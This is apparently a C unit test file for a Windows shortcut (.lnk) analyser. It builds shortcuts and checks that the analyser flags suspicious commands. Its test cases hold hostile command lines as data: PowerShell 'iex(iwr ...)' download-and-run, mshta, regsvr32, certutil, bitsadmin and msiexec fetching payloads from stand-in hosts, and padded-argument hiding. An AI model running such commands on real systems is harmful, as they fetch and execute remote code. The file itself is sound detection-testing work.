/*
 * test_lnk.c - the Windows shortcut analyser (src/objects/documents/lnk.c) on the
 * two real shortcuts of tests/data/maldocs/lnk (stored base64-encoded, as
 * LnkParse3 keeps them: decoded here) and on shortcuts built here from
 * [MS-SHLLINK]: every interpreter and tool, targets from LinkInfo (ANSI
 * and Unicode), the EnvironmentVariableDataBlock and the IDList, ANSI and
 * Unicode StringData, long and padded arguments, and every prefix of a
 * shortcut (no crash, damage reported, the facts of what could be read).
 */
#include "test_helpers.h"

#include "mime/message.h"
#include "objects/filetype.h"
#include "objects/object.h"

static const struct mime_limits mime_lim = { 50u << 20, 200u << 20, 500, 20, 10000 };

static struct obj_limits
limits(void)
{
	struct obj_limits l = {
		.depth = 12, .objects = 1000, .names = 10000, .object_bytes = 64ull << 20,
		.unpacked_bytes = 512ull << 20, .stream_bytes = 1ull << 30,
		.ratio = 100, .ratio_min = 16ull << 20, .padding_min = 4ull << 20,
		.deadline_us = 0, .mime = &mime_lim,
	};
	return l;
}

static uint8_t *
load_b64(const char *file, size_t *n)
{
	char *path = g_build_filename(MAMORI_TESTDATA, "maldocs", "lnk", file, NULL);
	gchar *b = NULL;
	gsize len = 0;

	if (!g_file_get_contents(path, &b, &len, NULL)) {
		print_error("missing %s\n", path);
		fail();
	}
	g_free(path);
	guchar *d = g_base64_decode(b, &len);
	g_free(b);
	*n = len;
	return d;
}

static void
dump(const struct mobj *o)
{
	for (guint k = 0; o->facts != NULL && k < o->facts->len; k++) {
		const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, k);
		print_error("  fact %s (%s)\n", obj_fact_name(f->id), f->detail != NULL ? f->detail : "-");
	}
}

/* The detail of o's fact sym, or NULL; fails if there are two. */
static const char *
fact(const struct mobj *o, const char *sym)
{
	const char *d = NULL;
	unsigned n = 0;
	for (guint k = 0; o->facts != NULL && k < o->facts->len; k++) {
		const struct obj_fact *f = &g_array_index(o->facts, struct obj_fact, k);
		if (strcmp(obj_fact_name(f->id), sym) == 0) {
			d = f->detail != NULL ? f->detail : "";
			n++;
		}
	}
	if (n > 1) {
		dump(o);
		fail();
	}
	return d;
}

static unsigned
nfacts(const struct mobj *o)
{
	return o->facts != NULL ? o->facts->len : 0;
}

static bool
has_url(const struct mobj *o, const char *u)
{
	for (guint i = 0; o->urls != NULL && i < o->urls->len; i++)
		if (strcmp(g_ptr_array_index(o->urls, i), u) == 0)
			return true;
	return false;
}

static struct obj_tree *
tree(const uint8_t *p, size_t n, const struct obj_limits *l)
{
	return obj_tree_build_file("x.lnk", p, n, l);
}

static const struct mobj *
root(const struct obj_tree *t)
{
	assert_int_equal(t->all->len, 1);
	return g_ptr_array_index(t->all, 0);
}

/* ------------------------------------------------------------------ */
/* the real shortcuts */

static void
test_microsoft_example(void **state)
{
	(void)state;
	struct obj_limits l = limits();
	size_t n;
	uint8_t *d = load_b64("microsoft_example.lnk", &n);
	assert_int_equal(n, 459);
	struct obj_tree *t = tree(d, n, &l);
	const struct mobj *o = root(t);

	assert_string_equal(o->type->name, "lnk");
	assert_utf8_equal(fact(o, "LNK_FILE"), "C:\\test\\a.txt; machine chris-xps");
	if (nfacts(o) != 1) {
		dump(o);
		fail();
	}
	assert_null(o->urls);
	obj_tree_free(t);
	g_free(d);
}

/*
 * The Start menu's own PowerShell shortcut: powershell.exe, no arguments.
 * It opens a console and runs nothing by itself, so it is a shortcut
 * (LNK_FILE, and DANGEROUS_FILE_TYPE by type) but not a suspicious command.
 */
static void
test_powershell_console(void **state)
{
	(void)state;
	struct obj_limits l = limits();
	size_t n;
	uint8_t *d = load_b64("console_properties_block.lnk", &n);
	struct obj_tree *t = tree(d, n, &l);
	const struct mobj *o = root(t);

	assert_string_equal(o->type->name, "lnk");
	assert_utf8_equal(fact(o, "LNK_FILE"),
	    "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe; machine leeholm16");
	if (nfacts(o) != 1) {
		dump(o);
		fail();
	}
	obj_tree_free(t);
	g_free(d);
}

/* ------------------------------------------------------------------ */
/* shortcuts built here */

struct spec {
	bool ansi;		/* StringData in the code page, not UTF-16 */
	const char *local;	/* LinkInfo LocalBasePath */
	bool local_wide;	/* ... also as LocalBasePathUnicode (header 0x24) */
	const char *net;	/* LinkInfo CommonNetworkRelativeLink NetName */
	const char *suffix;	/* LinkInfo CommonPathSuffix */
	const char *const *items;	/* IDList: volume, then file entries */
	const char *env;	/* EnvironmentVariableDataBlock target */
	const char *workdir;
	const char *args;
	const char *icon;
	const char *machine;	/* TrackerDataBlock */
};

static void
put16(GByteArray *b, uint32_t v)
{
	uint8_t x[2] = { (uint8_t)v, (uint8_t)(v >> 8) };
	g_byte_array_append(b, x, 2);
}

static void
put32(GByteArray *b, uint32_t v)
{
	uint8_t x[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24) };
	g_byte_array_append(b, x, 4);
}

static void
set32(GByteArray *b, size_t at, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		b->data[at + (size_t)i] = (uint8_t)(v >> (8 * i));
}

static void
putz(GByteArray *b, const char *s)
{
	g_byte_array_append(b, (const guint8 *)s, (guint)strlen(s) + 1);
}

static void
putwz(GByteArray *b, const char *s, bool nul)
{
	glong n = 0;
	gunichar2 *w = g_utf8_to_utf16(s, -1, NULL, &n, NULL);
	for (glong i = 0; i < n; i++)
		put16(b, w[i]);
	if (nul)
		put16(b, 0);
	g_free(w);
}

static void
put_string(GByteArray *b, const char *s, bool ansi)
{
	if (ansi) {
		put16(b, (uint32_t)strlen(s));
		g_byte_array_append(b, (const guint8 *)s, (guint)strlen(s));
	} else {
		put16(b, (uint32_t)g_utf8_strlen(s, -1));
		putwz(b, s, false);
	}
}

static void
put_fixed(GByteArray *b, const char *s, size_t n, bool wide)
{
	size_t start = b->len;
	if (wide)
		putwz(b, s, true);
	else
		putz(b, s);
	while (b->len < start + n)
		g_byte_array_append(b, (const guint8 *)"", 1);
}

static GByteArray *
build(const struct spec *s)
{
	GByteArray *b = g_byte_array_new();
	uint32_t flags = (s->items != NULL ? 0x01u : 0) |
	    (s->local != NULL || s->net != NULL ? 0x02u : 0) |
	    (s->workdir != NULL ? 0x10u : 0) | (s->args != NULL ? 0x20u : 0) |
	    (s->icon != NULL ? 0x40u : 0) | (s->ansi ? 0 : 0x80u) |
	    (s->env != NULL ? 0x200u : 0);

	static const uint8_t clsid[16] = { 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0,
		0, 0, 0, 0, 0, 0x46 };
	put32(b, 0x4C);
	g_byte_array_append(b, clsid, 16);
	put32(b, flags);
	put32(b, 0x20);				/* FileAttributes */
	for (int i = 0; i < 6; i++)
		put32(b, 0);			/* times */
	put32(b, 0);				/* FileSize */
	put32(b, 0);				/* IconIndex */
	put32(b, 1);				/* ShowCommand */
	put16(b, 0);				/* HotKey */
	put16(b, 0);
	put32(b, 0);
	put32(b, 0);

	if (s->items != NULL) {
		GByteArray *l = g_byte_array_new();
		for (size_t i = 0; s->items[i] != NULL; i++) {
			GByteArray *it = g_byte_array_new();
			if (i == 0) {
				g_byte_array_append(it, (const guint8 *)"\x2F", 1);
				put_fixed(it, s->items[i], 22, false);
			} else {
				g_byte_array_append(it, (const guint8 *)"\x32\0", 2);
				put32(it, 0);	/* size */
				put32(it, 0);	/* date */
				put16(it, 0x20);	/* attributes */
				putz(it, s->items[i]);
				if (it->len % 2)
					g_byte_array_append(it, (const guint8 *)"", 1);
			}
			put16(l, it->len + 2);
			g_byte_array_append(l, it->data, it->len);
			g_byte_array_free(it, TRUE);
		}
		put16(l, 0);
		put16(b, l->len);
		g_byte_array_append(b, l->data, l->len);
		g_byte_array_free(l, TRUE);
	}

	if (s->local != NULL || s->net != NULL) {
		size_t li = b->len;
		uint32_t hs = s->local_wide ? 0x24 : 0x1C;
		put32(b, 0);			/* LinkInfoSize, set below */
		put32(b, hs);
		put32(b, (s->local != NULL ? 1u : 0) | (s->net != NULL ? 2u : 0));
		for (uint32_t i = 12; i < hs; i += 4)
			put32(b, 0);
		if (s->local != NULL) {
			set32(b, li + 12, (uint32_t)(b->len - li));	/* VolumeID */
			put32(b, 0x11);
			put32(b, 3);
			put32(b, 0x1234);
			put32(b, 0x10);
			g_byte_array_append(b, (const guint8 *)"", 1);
			set32(b, li + 16, (uint32_t)(b->len - li));
			putz(b, s->local);
		}
		if (s->net != NULL) {
			size_t cn = b->len;
			set32(b, li + 20, (uint32_t)(cn - li));
			put32(b, 0);
			put32(b, 0);
			put32(b, 0x14);		/* NetNameOffset */
			put32(b, 0);
			put32(b, 0);
			putz(b, s->net);
			set32(b, cn, (uint32_t)(b->len - cn));
		}
		set32(b, li + 24, (uint32_t)(b->len - li));
		putz(b, s->suffix != NULL ? s->suffix : "");
		if (s->local_wide && s->local != NULL) {
			set32(b, li + 28, (uint32_t)(b->len - li));
			putwz(b, s->local, true);
			set32(b, li + 32, (uint32_t)(b->len - li));
			putwz(b, s->suffix != NULL ? s->suffix : "", true);
		}
		set32(b, li, (uint32_t)(b->len - li));
	}

	if (s->workdir != NULL)
		put_string(b, s->workdir, s->ansi);
	if (s->args != NULL)
		put_string(b, s->args, s->ansi);
	if (s->icon != NULL)
		put_string(b, s->icon, s->ansi);

	if (s->env != NULL) {
		put32(b, 0x314);
		put32(b, 0xA0000001);
		put_fixed(b, s->env, 260, false);
		put_fixed(b, s->env, 520, true);
	}
	if (s->machine != NULL) {
		put32(b, 0x60);
		put32(b, 0xA0000003);
		put32(b, 0x58);
		put32(b, 0);
		put_fixed(b, s->machine, 16, false);
		for (int i = 0; i < 64; i++)
			g_byte_array_append(b, (const guint8 *)"\x5a", 1);
	}
	put32(b, 0);				/* TerminalBlock */
	return b;
}

/* Build, analyse, and check LNK_SUSPICIOUS_COMMAND's detail (NULL: none). */
static void
expect(const struct spec *s, const char *lnk_file, const char *suspicious)
{
	struct obj_limits l = limits();
	GByteArray *b = build(s);
	struct obj_tree *t = tree(b->data, b->len, &l);
	const struct mobj *o = root(t);

	assert_string_equal(o->type->name, "lnk");
	if (lnk_file != NULL)
		assert_utf8_equal(fact(o, "LNK_FILE"), lnk_file);
	else
		assert_non_null(fact(o, "LNK_FILE"));
	const char *d = fact(o, "LNK_SUSPICIOUS_COMMAND");
	if (suspicious == NULL && d != NULL) {
		print_error("unexpected LNK_SUSPICIOUS_COMMAND (%s)\n", d);
		fail();
	}
	if (suspicious != NULL)
		assert_utf8_equal(d, suspicious);
	if (fact(o, "DOCUMENT_MALFORMED") != NULL) {
		dump(o);
		fail();
	}
	obj_tree_free(t);
	g_byte_array_free(b, TRUE);
}

#define SYS "C:\\Windows\\System32\\"

static void
test_interpreters(void **state)
{
	(void)state;
	static const struct {
		const char *target, *args, *want;
	} cases[] = {
		{ SYS "WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -c iex(iwr http://a.example/p)",
		  "powershell: " SYS "WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c iex(iwr http://a.example/p)" },
		{ "C:\\Program Files\\PowerShell\\7\\pwsh.exe", "-c calc", "pwsh: C:\\Program Files\\PowerShell\\7\\pwsh.exe -c calc" },
		{ SYS "cmd.exe", "/c start calc", "cmd: " SYS "cmd.exe /c start calc" },
		{ SYS "CMD.EXE", "/K calc", "cmd: " SYS "CMD.EXE /K calc" },
		{ SYS "cmd.exe", "/q", NULL },		/* a console, nothing run */
		{ SYS "mshta.exe", "http://a.example/x.hta", "mshta: " SYS "mshta.exe http://a.example/x.hta" },
		{ SYS "rundll32.exe", "C:\\Users\\Public\\a.dll,Start", "rundll32: " SYS "rundll32.exe C:\\Users\\Public\\a.dll,Start" },
		{ SYS "regsvr32.exe", "/s /n /u /i:http://a.example/s.sct scrobj.dll", "regsvr32: " SYS "regsvr32.exe /s /n /u /i:http://a.example/s.sct scrobj.dll" },
		{ SYS "wscript.exe", "//e:vbscript a.txt", "wscript: " SYS "wscript.exe //e:vbscript a.txt" },
		{ SYS "cscript.exe", "a.js", "cscript: " SYS "cscript.exe a.js" },
		{ SYS "certutil.exe", "-urlcache -f http://a.example/a a.exe", "certutil: " SYS "certutil.exe -urlcache -f http://a.example/a a.exe" },
		{ SYS "bitsadmin.exe", "/transfer j http://a.example/a C:\\a.exe", "bitsadmin: " SYS "bitsadmin.exe /transfer j http://a.example/a C:\\a.exe" },
		{ SYS "curl.exe", "-o a.exe http://a.example/a", "curl: " SYS "curl.exe -o a.exe http://a.example/a" },
		{ "C:\\tools\\wget.exe", "http://a.example/a", "wget: C:\\tools\\wget.exe http://a.example/a" },
		{ SYS "msiexec.exe", "/q /i http://a.example/a.msi", "msiexec: " SYS "msiexec.exe /q /i http://a.example/a.msi" },
		{ SYS "msiexec.exe", "/i C:\\setup\\app.msi", NULL },
		{ SYS "forfiles.exe", "/p c:\\windows /m notepad.exe /c calc", "forfiles: " SYS "forfiles.exe /p c:\\windows /m notepad.exe /c calc" },
		{ SYS "conhost.exe", "--headless calc", "conhost: " SYS "conhost.exe --headless calc" },
		{ "C:\\Windows\\explorer.exe", "https://a.example/", "explorer: C:\\Windows\\explorer.exe https://a.example/" },
		{ "C:\\Windows\\explorer.exe", "C:\\Users\\Public", NULL },
		/* ordinary shortcuts */
		{ SYS "notepad.exe", "C:\\readme.txt", NULL },
		{ "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--profile-directory=Default", NULL },
		{ "C:\\Program Files\\App\\app.exe", "--data C:\\curl\\cfg --scripts wscripts", NULL },
		/* a tool in the arguments of something else */
		{ "C:\\Program Files\\App\\app.exe", "& powershell.exe -enc AAAA", "powershell: C:\\Program Files\\App\\app.exe & powershell.exe -enc AAAA" },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		struct spec s = { .local = cases[i].target, .args = cases[i].args };
		expect(&s, NULL, cases[i].want);
		/* the same in code-page strings, with a Unicode LinkInfo */
		s.ansi = true;
		s.local_wide = true;
		expect(&s, NULL, cases[i].want);
	}
}

static void
test_lnk_file_detail(void **state)
{
	(void)state;
	struct spec s = { .local = SYS "cmd.exe", .args = "/c echo caf\xc3\xa9",
		.workdir = "C:\\Users\\Public", .machine = "desktop-x1" };
	expect(&s, SYS "cmd.exe /c echo caf\xc3\xa9; machine desktop-x1",
	    "cmd: " SYS "cmd.exe /c echo caf\xc3\xa9");
	/* Unicode in the Unicode LinkInfo */
	struct spec u = { .local = "C:\\\xe6\x96\x87\xe6\x9b\xb8\\a.txt", .local_wide = true };
	expect(&u, "C:\\\xe6\x96\x87\xe6\x9b\xb8\\a.txt", NULL);
	/* a network share */
	struct spec n = { .net = "\\\\server\\share", .suffix = "tools\\mshta.exe",
		.args = "x.hta" };
	expect(&n, "\\\\server\\share\\tools\\mshta.exe x.hta",
	    "mshta: \\\\server\\share\\tools\\mshta.exe x.hta");
	/* nothing at all */
	struct spec e = { .ansi = true };
	expect(&e, "(no target)", NULL);
}

static void
test_env_block_and_idlist(void **state)
{
	(void)state;
	/* target only in the EnvironmentVariableDataBlock */
	struct spec e = { .env = "%windir%\\system32\\cmd.exe", .args = "/c calc" };
	expect(&e, "%windir%\\system32\\cmd.exe /c calc",
	    "cmd: %windir%\\system32\\cmd.exe /c calc");
	/* target only in the IDList */
	static const char *const items[] = { "C:\\", "WINDOWS", "SYSTEM32", "mshta.exe", NULL };
	struct spec i = { .items = items, .args = "vbscript:Execute(\"x\")" };
	expect(&i, "C:\\WINDOWS\\SYSTEM32\\mshta.exe vbscript:Execute(\"x\")",
	    "mshta: C:\\WINDOWS\\SYSTEM32\\mshta.exe vbscript:Execute(\"x\")");
	/* a harmless LinkInfo, the interpreter in the block: both are read */
	struct spec b = { .local = "C:\\a.pdf", .env = "%comspec%\\..\\powershell.exe",
		.args = "-w hidden" };
	expect(&b, "C:\\a.pdf -w hidden", "powershell: %comspec%\\..\\powershell.exe -w hidden");
}

static void
test_long_and_padded(void **state)
{
	(void)state;
	GString *a = g_string_new(NULL);
	for (int i = 0; i < 1100; i++)
		g_string_append_c(a, 'a');
	struct spec s = { .local = SYS "notepad.exe", .args = a->str };
	/* the command is cut to 150 bytes: the 32 of the target, 118 of 'a' */
	char *want = g_strdup_printf("long arguments (1100 chars): %snotepad.exe %.118s...",
	    SYS, a->str);
	expect(&s, NULL, want);
	g_free(want);

	g_string_assign(a, "/c");
	for (int i = 0; i < 300; i++)
		g_string_append_c(a, ' ');
	g_string_append(a, "calc");
	struct spec p = { .local = SYS "cmd.exe", .args = a->str };
	expect(&p, SYS "cmd.exe /c calc",
	    "cmd, padded arguments (300 blanks): " SYS "cmd.exe /c calc");

	struct spec n = { .local = SYS "notepad.exe", .args = "a.txt\r\n\r\n& calc" };
	expect(&n, SYS "notepad.exe a.txt & calc",
	    "padded arguments (4 blanks, newlines): " SYS "notepad.exe a.txt & calc");

	/* both: 1200 chars of padding in front of a PowerShell command */
	g_string_assign(a, "");
	for (int i = 0; i < 1200; i++)
		g_string_append_c(a, (i % 2) ? '\n' : ' ');
	g_string_append(a, "-c iex x");
	struct spec b = { .local = SYS "WindowsPowerShell\\v1.0\\powershell.exe", .args = a->str,
		.ansi = true };
	expect(&b, NULL, "powershell, long arguments (1208 chars), padded arguments "
	    "(1200 blanks, newlines): " SYS "WindowsPowerShell\\v1.0\\powershell.exe -c iex x");
	g_string_free(a, TRUE);
}

static void
test_urls(void **state)
{
	(void)state;
	struct obj_limits l = limits();
	struct spec s = { .local = SYS "mshta.exe", .args = "\"https://a.example/x.hta\"",
		.icon = "\\\\198.51.100.7\\s\\i.ico,0 http://icons.example/i.ico" };
	GByteArray *b = build(&s);
	struct obj_tree *t = tree(b->data, b->len, &l);
	const struct mobj *o = root(t);
	assert_true(has_url(o, "https://a.example/x.hta"));
	assert_true(has_url(o, "http://icons.example/i.ico"));
	assert_int_equal(o->urls->len, 2);
	obj_tree_free(t);
	g_byte_array_free(b, TRUE);
}

/* Every prefix: no crash; damage reported once the header is there. */
static void
check_prefixes(const uint8_t *d, size_t n, size_t strings_end)
{
	struct obj_limits l = limits();
	for (size_t k = 0; k < n; k++) {
		struct obj_tree *t = tree(d, k, &l);
		const struct mobj *o = g_ptr_array_index(t->all, 0);
		if (k >= 0x4C) {
			assert_string_equal(o->type->name, "lnk");
			assert_non_null(fact(o, "LNK_FILE"));
			if (k < strings_end && fact(o, "DOCUMENT_MALFORMED") == NULL) {
				print_error("prefix %zu: no DOCUMENT_MALFORMED\n", k);
				fail();
			}
		} else {
			assert_int_equal(nfacts(o), 0);
		}
		obj_tree_free(t);
	}
}

static void
test_prefixes(void **state)
{
	(void)state;
	static const char *const items[] = { "C:\\", "WINDOWS", "mshta.exe", NULL };
	struct spec s = { .items = items, .local = SYS "cmd.exe", .local_wide = true,
		.args = "/c calc", .icon = "x.ico", .env = "%windir%\\cmd.exe",
		.machine = "m1" };
	GByteArray *b = build(&s);
	/* StringData ends 0x314 + 0x60 + 4 bytes before the end */
	check_prefixes(b->data, b->len, b->len - 0x314 - 0x60 - 4);
	/* the cut command is still judged */
	struct obj_limits l = limits();
	struct obj_tree *t = tree(b->data, b->len - 0x314 - 0x60 - 4 - 12 - 2, &l);
	assert_utf8_equal(fact(root(t), "LNK_SUSPICIOUS_COMMAND"), "cmd: " SYS "cmd.exe /c cal");
	obj_tree_free(t);
	g_byte_array_free(b, TRUE);

	size_t n;
	uint8_t *d = load_b64("microsoft_example.lnk", &n);
	check_prefixes(d, n, 0x167);
	g_free(d);
}

/* Sizes that lie: no read past the end, damage reported. */
static void
test_lying_sizes(void **state)
{
	(void)state;
	struct obj_limits l = limits();
	size_t n;
	uint8_t *d = load_b64("microsoft_example.lnk", &n);
	static const struct { size_t at; uint8_t v[4]; const char *why; } cases[] = {
		{ 0x4C, { 0xFF, 0xFF }, "LinkTargetIDList larger than the file" },
		{ 0x4E + 0x14, { 0xF0, 0xFF }, "shell item larger than its IDList" },
		{ 0x10B, { 0xFF, 0xFF, 0, 0 }, "LinkInfo size out of range" },
		{ 0x10B + 4, { 0xFF, 0, 0, 0 }, "LinkInfo header size out of range" },
		{ 0x147, { 0xFF, 0xFF }, "StringData cut" },
		{ 0x167, { 0xFF, 0xFF, 0, 0 }, "ExtraData block larger than the file" },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		uint8_t *c = g_memdup2(d, n);
		memcpy(c + cases[i].at, cases[i].v, cases[i].v[2] || cases[i].v[3] ? 4 : 2);
		struct obj_tree *t = tree(c, n, &l);
		const struct mobj *o = root(t);
		assert_non_null(fact(o, "LNK_FILE"));
		assert_utf8_equal(fact(o, "DOCUMENT_MALFORMED"), cases[i].why);
		obj_tree_free(t);
		g_free(c);
	}
	g_free(d);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_microsoft_example),
		cmocka_unit_test(test_powershell_console),
		cmocka_unit_test(test_interpreters),
		cmocka_unit_test(test_lnk_file_detail),
		cmocka_unit_test(test_env_block_and_idlist),
		cmocka_unit_test(test_long_and_padded),
		cmocka_unit_test(test_urls),
		cmocka_unit_test(test_prefixes),
		cmocka_unit_test(test_lying_sizes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
